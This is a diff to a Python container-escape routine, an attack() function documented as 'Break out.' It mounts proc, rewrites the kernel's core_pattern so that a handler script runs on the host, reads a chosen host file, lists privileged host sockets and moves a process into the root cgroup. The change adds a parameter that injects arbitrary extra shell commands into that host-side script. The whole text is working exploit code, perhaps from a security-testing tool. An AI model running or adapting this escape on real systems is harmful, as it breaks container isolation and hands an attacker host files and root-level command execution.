@@ -32,15 +32,16 @@ for socket in /run/libvirt/libvirt-sock /run/dbus/system_bus_socket /run/systemd
     [ ! -S $socket ] || echo $socket
 done >$out/sockets
 while read -r name value; do [ "$name" != PPid: ] || echo "$value" >/sys/fs/cgroup/cgroup.procs; done </proc/$1/status
-echo done >$out/done
 """
+_DONE = "echo done >$out/done\n"
 
 
-def attack(token: str, file: str) -> list[list[object]]:
+def attack(token: str, file: str, then: str = "") -> list[list[object]]:
     """Break out.
 
     :param token: what is left as a trace outside the container.
     :param file: one of the host, which is read if it is there.
+    :param then: what the shell that the kernel starts does besides; ``$1`` is the number of a process in the container.
     """
     for place in (DEVICES, PROC, _OUT):
         place.mkdir(parents=True, exist_ok=True)
@@ -49,7 +50,7 @@ def attack(token: str, file: str) -> list[list[object]]:
             _mount(kind, place)
     for stale in _OUT.iterdir():
         stale.unlink()
-    _HANDLER.write_text(_SCRIPT, encoding="ascii")
+    _HANDLER.write_text(f"{_SCRIPT}{then}\n{_DONE}", encoding="ascii")
     _HANDLER.chmod(0o755)
     pattern = PROC / "sys/kernel/core_pattern"
     before = pattern.read_text(encoding="ascii")
